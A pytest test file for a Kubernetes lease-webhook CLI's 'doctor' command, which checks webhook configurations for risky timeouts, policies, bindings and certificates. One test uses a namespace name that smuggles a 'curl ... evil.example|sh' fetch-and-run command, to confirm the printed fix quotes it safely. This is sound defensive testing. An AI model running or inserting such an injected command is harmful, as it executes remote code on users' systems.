"""`lease-webhook doctor` as people type it."""

import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.doctor.shipped import DATA, document
from tests.doctor.test_documents import JSON
from webhook.admission.policy.parse import parse
from webhook.api_server.rule_policies import make_shipped_manifests
from webhook.cli.main import main

SAFE = DATA / "safe-as-shipped.yaml"
NOT_READ = (
    "the certificate that lease-webhook/lease-webhook serves was not examined: Secrets of a cluster are not read; "
    "`lease-webhook status` has the API server try it"
)


def written(path: Path, *documents: Any) -> str:
    path.write_text(yaml.safe_dump_all(documents))
    return str(path)


def test_reads_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(SAFE.read_bytes())))
    assert main(["doctor", "--input", "-"]) == 0
    assert capsys.readouterr().out == "safe: 1 webhook entry that leases can reach (leases.lease-webhook.svc)\n"


def test_reads_what_kubectl_prints_as_json(tmp_path: Path) -> None:
    path = tmp_path / "list.json"
    path.write_text(json.dumps({"kind": "List", "items": [document()]}, indent=1))
    assert main(["doctor", "--input", str(path)]) == 0


def test_reads_braces_of_yaml_behind_a_separator(tmp_path: Path) -> None:
    path = tmp_path / "x.yaml"
    path.write_text(SAFE.read_text() + "\n---\n{apiVersion: v1, kind: Namespace, metadata: {name: shop}}\n")
    assert main(["doctor", "--input", str(path)]) == 0


def test_says_what_can_happen_and_what_to_change(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(timeoutSeconds=10))]) == 1
    assert capsys.readouterr().out == (
        "lease-webhook, leases.lease-webhook.svc\n"
        "  timeout-too-long  webhooks[0].timeoutSeconds: 10\n"
        "      risk: leader-election clients give up on a write after 5 s. With the webhook unreachable a\n"
        "      write waits 10 s, even with failurePolicy Ignore, and healthy leaders lose their leases\n"
        "      (kubernetes/kubernetes#90217).\n"
        "      fix: set timeoutSeconds: 2.\n"
        "\n"
        "not safe: 1 finding; 1 webhook entry that leases can reach\n"
    )


def test_what_somebody_chose_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = document(matchConditions=None)
    config["metadata"]["annotations"] = {"lease-webhook/renewals": "reviewed", "lease-webhook/other": "no"}
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", config)]) == 0
    assert capsys.readouterr().out.startswith("safe: ")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("failurePolicy", "ignore"),
        ("timeoutSeconds", 0),
        ("timeoutSeconds", 31),
        ("matchPolicy", "equivalent"),
        ("sideEffects", "none"),
        ("namespaceSelector", {"matchExpressions": [{"key": "x", "operator": "notin"}]}),
        ("rules", [{"scope": "namespaced"}]),
    ],
)
def test_what_the_api_server_refuses_is_malformed(
    field: str, value: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(**{field: value}))]) == 1
    output = capsys.readouterr().out
    assert "  malformed  " in output
    assert f"webhooks[0].{field}" in output


@pytest.mark.parametrize(
    ("content", "text"),
    [
        pytest.param(b"", "no ValidatingWebhookConfiguration", id="empty"),
        pytest.param(b"kind: Pod\n", "no ValidatingWebhookConfiguration", id="something else"),
        pytest.param(b"a: [", "did not find expected node content", id="no YAML"),
        pytest.param(b"{a: [", "not JSON", id="no JSON and no YAML"),
        pytest.param(b"\xff\xfe", "not UTF-8", id="not UTF-8"),
        pytest.param(b"[" * 100_000, "nested too deeply", id="nested without end"),
    ],
)
def test_an_input_that_cannot_be_read_is_an_error(
    content: bytes, text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "x.yaml"
    path.write_bytes(content)
    assert main(["doctor", "--input", str(path)]) == 2
    error = capsys.readouterr().err
    assert text in error
    assert error.count("\n") == 1


def test_a_file_that_is_not_there(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--input", "/nowhere.yaml"]) == 2
    error = capsys.readouterr().err
    assert error.startswith("lease-webhook: /nowhere.yaml")
    assert error.endswith(": No such file or directory\n")


def test_braces_that_are_yaml(tmp_path: Path) -> None:
    path = tmp_path / "x.yaml"
    path.write_text("{kind: ValidatingWebhookConfiguration}")
    assert main(["doctor", "--input", str(path)]) == 1


def test_a_named_policy_comes_before_the_one_beside_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--input", str(DATA / "policy-off.yaml"), "--policy", "standard"]) == 0
    off = tmp_path / "policy.yaml"
    off.write_text("apiVersion: lease-webhook/v1\nmode: off\n")
    assert main(["doctor", "--input", str(SAFE), "--policy", str(off)]) == 1
    assert "policy\n  kill-switch-on  " in capsys.readouterr().out


def test_a_bad_policy_is_unreadable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--input", str(SAFE), "--policy", str(tmp_path / "none.yaml")]) == 2
    policy = {"kind": "ConfigMap", "metadata": {"namespace": "lease-webhook"}, "data": {"policy.yaml": "mode: x"}}
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(), policy)]) == 2
    assert all(line.startswith("lease-webhook: policy: ") for line in capsys.readouterr().err.splitlines())


def test_a_binding_is_content_with_an_entry_that_sees_renewals(tmp_path: Path) -> None:
    documents = list(yaml.safe_load_all((DATA / "policy-binding.yaml").read_text()))
    renewals = {**documents[0]["webhooks"][0], "name": "renewals.lease-webhook.svc", "matchConditions": None}
    expression = {"key": "lease-webhook/renewals", "operator": "In", "values": ["reviewed"]}
    renewals["namespaceSelector"] = {
        "matchExpressions": [*renewals["namespaceSelector"]["matchExpressions"], expression]
    }
    documents[0]["webhooks"].append(renewals)
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", *documents)]) == 0


BINDING = """
apiVersion: lease-webhook/v1
bindings:
- {namespace: shop, lease: checkout, writers: [shop/checkout], holder: ["checkout-*"]}
"""


def opted_in() -> dict[str, Any]:
    """An entry that sees renewals, in namespaces that have the label."""
    selector = document()["webhooks"][0]["namespaceSelector"]
    return document(
        matchConditions=None,
        namespaceSelector={**selector, "matchLabels": {"lease-webhook/renewals": "reviewed"}},
    )


def namespace(**labels: str) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop", "labels": labels}}


@pytest.mark.parametrize(
    ("beside", "code"),
    [
        pytest.param([], 0, id="unknown"),
        pytest.param([{**namespace(), "metadata": {"name": "other"}}], 0, id="another namespace"),
        pytest.param([namespace(**{"lease-webhook/renewals": "reviewed"})], 0, id="with the label"),
        pytest.param([namespace()], 1, id="without the label"),
        pytest.param([namespace(**{"lease-webhook/renewals": "no"})], 1, id="with another value"),
        pytest.param([{**namespace(), "metadata": {"labels": 5}}], 0, id="not a namespace"),
    ],
)
def test_a_namespace_beside_it_shows_whether_a_binding_holds(
    beside: list[dict[str, Any]], code: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "policy.yaml").write_text(BINDING)
    whole = {"apiVersion": "v1", "kind": "List", "items": [opted_in(), *beside]}
    assert (
        main(["doctor", "--input", written(tmp_path / "x.yaml", whole), "--policy", str(tmp_path / "policy.yaml")])
        == code
    )
    assert ("binding-without-renewals" in capsys.readouterr().out) == bool(code)


def test_the_namespace_of_a_binding_is_one_word_of_the_command_to_label_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "shop;curl${IFS}evil.example|sh"
    (tmp_path / "policy.yaml").write_text(BINDING.replace("namespace: shop", f'namespace: "{name}"'))
    file = written(tmp_path / "x.yaml", document())
    assert main(["doctor", "--input", file, "--policy", str(tmp_path / "policy.yaml"), "--format", "json"]) == 1
    (binding,) = json.loads(capsys.readouterr().out)["entries"][-1]["findings"]
    assert f"kubectl label namespace '{name}' lease-webhook/renewals=reviewed" in binding["fix"]


def test_advice_for_the_webhooks_of_others_is_theirs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name, words = "scanner", "leave the group coordination.k8s.io out of its rules"
    whole = yaml.safe_load((DATA / "catch-all.yaml").read_text())
    whole["metadata"]["name"] = name
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", whole), "--format", "json"]) == 1
    report = json.loads(capsys.readouterr().out)
    changes = {one["check"]: one["fix"] for one in report["entries"][0]["findings"]}
    assert words in changes["wildcard"]
    assert words in changes["renewals-fail-closed"]
    assert "component" not in " ".join(changes.values())
    assert (report["safe"], report["entries"][0]["configuration"]) == (False, name)


def test_a_webhook_with_wildcards_is_not_taken_for_a_registration(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--input", str(DATA / "catch-all.yaml"), "--format", "json"]) == 1
    (finding,) = json.loads(capsys.readouterr().out)["entries"][-1]["findings"]
    assert finding["check"] == "not-registered"
    assert finding["place"] == (
        "no webhook has the group coordination.k8s.io in its rules; leases reach all.example.com by a wildcard"
    )


@settings(deadline=None)
@given(JSON)
def test_no_kind_is_too_odd(kind: object) -> None:
    whole = {"kind": "List", "items": [{"kind": kind}, document()]}
    stdin = io.TextIOWrapper(io.BytesIO(json.dumps(whole).encode()))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdin", stdin)
        assert main(["doctor", "--input", "-"]) in {0, 2}


FIELDS = st.sampled_from(sorted(document()["webhooks"][0]))


@settings(deadline=None)
@given(FIELDS, JSON)
def test_no_value_of_a_field_is_too_odd(field: str, value: object) -> None:
    config = {**document(), "webhooks": [{**document()["webhooks"][0], field: value}]}
    stdin = io.TextIOWrapper(io.BytesIO(json.dumps(config).encode()))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdin", stdin)
        assert main(["doctor", "--input", "-"]) in {0, 1}


@pytest.mark.parametrize("timeout", [2, 30], ids=["safe", "not safe"])
def test_a_name_that_no_api_server_stores_is_shown_in_part(
    timeout: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = document(timeoutSeconds=timeout, name="x" * 100_000)
    whole["metadata"]["name"] = "y" * 100_000
    assert main(["doctor", "--input", written(tmp_path / "x.yaml", whole)]) == (1 if timeout > 2 else 0)
    assert len(capsys.readouterr().out) < 2000


def test_an_empty_input_is_called_empty(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "found.yaml"
    file.write_text("")
    assert main(["doctor", "--input", str(file)]) == 2
    assert capsys.readouterr().err.endswith(f"no ValidatingWebhookConfiguration is in the input: {file} is empty\n")


def test_without_an_input_the_cluster_is_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    kubectl, file = tmp_path / "kubectl", written(tmp_path / "found.yaml", document(timeoutSeconds=10))
    installed = tmp_path / "installed.yaml"
    installed.write_text("{}")
    kubectl.write_text(
        "#!/bin/sh\n"
        f'case "$2" in *webhook*) cat {file};; configmaps) cat {installed};; '
        'mutating*) echo "error: the server doesn\'t have a resource type" >&2; exit 1;;\n'
        'namespaces) echo "Error: forbidden" >&2; exit 1;; *) echo "{}";; esac\n'
    )
    kubectl.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    assert main(["doctor"]) == 1
    out, err = capsys.readouterr()
    assert "timeout" in out
    assert err == (
        "namespaces were not read: Error: forbidden\n"
        f"the policy in force was not found, so it was not examined; --policy names its file\n{NOT_READ}\n"
    )
    policy = {"policy.yaml": "apiVersion: lease-webhook/v1\nmode: 'off'\n"}
    written(installed, {"kind": "ConfigMap", "metadata": {"namespace": "lease-webhook"}, "data": policy})
    assert main(["doctor"]) == 1
    out, err = capsys.readouterr()
    assert "kill-switch-on" in out
    assert err == f"namespaces were not read: Error: forbidden\n{NOT_READ}\n"
    assert main(["doctor", "--policy", "standard"]) == 1
    out, err = capsys.readouterr()
    assert "kill-switch-on" not in out
    assert "\nthe ConfigMap in the cluster has another policy, which was not examined\n" in err
    kubectl.write_text('#!/bin/sh\necho "E1123 15:17 memcache" >&2; echo "refused" >&2; exit 1\n')
    assert main(["doctor"]) == 2
    assert capsys.readouterr().err == "lease-webhook: the configurations cannot be read: refused\n"


def listing_kubectl(directory: Path, *objects: dict[str, Any], policies: str = "") -> None:
    """Write a kubectl that lists these objects of the cluster, but for policies if a command for those is given."""
    listed = {"kind": "List", "apiVersion": "v1", "items": list(objects)}
    (directory / "listed.json").write_text(json.dumps(listed))
    kubectl = directory / "kubectl"
    kubectl.write_text(
        f'#!/bin/sh\ncase "$2" in *admissionpolicies*) {policies or "cat " + str(directory / "listed.json")};; '
        f"*) cat {directory / 'listed.json'};; esac\n"
    )
    kubectl.chmod(0o755)


def rule_policy() -> list[dict[str, Any]]:
    """A policy of the API server that has rules of ours, and its binding."""
    return make_shipped_manifests(parse("apiVersion: lease-webhook/v1"), 0)[1:3]


UNREADABLE = "echo 'Error: forbidden' >&2; exit 1"


@pytest.mark.parametrize(
    ("objects", "policies", "risk"),
    [
        pytest.param([], "", "none of its rules is in force", id="nothing is registered"),
        pytest.param([], UNREADABLE, "could not be read", id="nothing is registered, and policies may not be read"),
        pytest.param(rule_policy()[:1], "", "none of its rules is in force", id="a policy of rules that is not bound"),
        pytest.param(rule_policy()[1:], "", "none of its rules is in force", id="a binding whose policy is gone"),
        pytest.param(rule_policy(), "", "", id="the rules are policies"),
        pytest.param(
            [*rule_policy(), {"kind": "ValidatingWebhookConfiguration", "metadata": {"name": "other"}}],
            "",
            "",
            id="the rules are policies, beside a webhook of others",
        ),
    ],
)
def test_a_cluster_without_a_registration_is_safe_only_if_policies_have_the_rules(
    objects: list[dict[str, Any]],
    policies: str,
    risk: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    listing_kubectl(tmp_path, *objects, policies=policies)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    assert main(["doctor", "--format", "json"]) == (1 if risk else 0)
    out, err = capsys.readouterr()
    found = [one for entry in json.loads(out)["entries"] for one in entry["findings"]]
    assert [one["check"] for one in found] == (["not-registered"] if risk else [])
    assert all(risk in one["risk"] for one in found)
    assert ("the rules are policies of the API server" in err) is not bool(risk)


def test_an_installation_without_a_webhook_is_examined_before_it_is_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["install", "--policies-only", "--policy", "standard"]) == 0
    printed = tmp_path / "install.yaml"
    printed.write_text(capsys.readouterr().out)
    assert main(["doctor", "--input", str(printed)]) == 0
    assert "no webhook is registered: the rules are policies" in capsys.readouterr().err


FENCED = """
apiVersion: lease-webhook/v1
stamps: [{suffix: 5f3a9c1e, namespaces: [shop]}]
fences: [{name: shop, lease: shop/a, writers: [shop/a], resources: [configmaps], token: true, mode: warn}]
"""


@pytest.mark.parametrize(
    ("kinds", "answer", "missing"),
    [
        pytest.param("none", "", 12, id="all were read, and there are none"),
        pytest.param("mutating*", "Error: forbidden", 6, id="those that mutate may not be read"),
        pytest.param("mutating*", "the server doesn't have a resource type", 12, id="an older API server"),
        pytest.param("*admission*", "Error: forbidden", 0, id="none may be read"),
    ],
)
def test_objects_that_were_not_read_are_not_reported_missing(
    kinds: str,
    answer: str,
    missing: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    kubectl, policy = tmp_path / "kubectl", tmp_path / "policy.yaml"
    policy.write_text(FENCED)
    config = document()["webhooks"][0]["clientConfig"]
    at_a_url = {"url": "https://lease-webhook.example/validate", "caBundle": config["caBundle"]}
    webhooks = written(tmp_path / "webhooks.yaml", document(clientConfig=at_a_url))
    kubectl.write_text(
        "#!/bin/sh\n"
        f'case "$2" in *webhook*) cat {webhooks};; namespaces) echo "{{}}";; '
        f'{kinds}) echo "{answer}" >&2; exit 1;; *) echo "{{}}";; esac\n'
    )
    kubectl.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    assert main(["doctor", "--policy", str(policy), "--format", "json"]) == (1 if missing else 0)
    out, err = capsys.readouterr()
    checks = [one["check"] for entry in json.loads(out)["entries"] for one in entry["findings"]]
    assert sorted(set(checks)) == (["fence-not-applied", "stamp-not-applied"] if missing else [])
    assert len(checks) == missing
    assert ("were not read: Error: forbidden" in err) == ("forbidden" in answer)


def test_a_fence_that_is_stricter_than_the_file_is_a_note(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy, cluster = tmp_path / "my policy.yaml", tmp_path / "cluster.yaml"
    policy.write_text(FENCED)
    assert main(["export", "fence", str(policy), "--mode", "deny"]) == 0
    cluster.write_text(capsys.readouterr().out)
    main(["doctor", "--input", str(cluster), "--policy", str(policy), "--format", "json"])
    out, err = capsys.readouterr()
    assert "fence-" not in "".join(one["check"] for entry in json.loads(out)["entries"] for one in entry["findings"])
    assert err == f"fence-shop is stricter than '{policy}': set `mode: deny` of the fence there\n"


@pytest.mark.parametrize(
    ("made", "code", "check"),
    [
        pytest.param([], 0, "", id="for the shipped Service"),
        pytest.param(["--service", "other"], 1, "certificate-untrusted", id="for another Service"),
    ],
)
def test_the_certificate_of_an_installation_is_examined_before_it_is_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], made: list[str], code: int, check: str
) -> None:
    certs, printed = str(tmp_path / "certs"), tmp_path / "install.yaml"
    main(["certs", *made, certs])
    capsys.readouterr()
    assert main(["install", "--certificate=self-signed", f"--certs={certs}", "--image=registry.example/x:1"]) == 0
    out, warned = capsys.readouterr()
    printed.write_text(out)
    assert ("tls.crt lacks the name lease-webhook.lease-webhook.svc" in warned) is bool(check)
    assert main(["doctor", "--input", str(printed)]) == code
    out = capsys.readouterr().out
    assert check in out
    assert out.startswith("safe: ") is not bool(check)
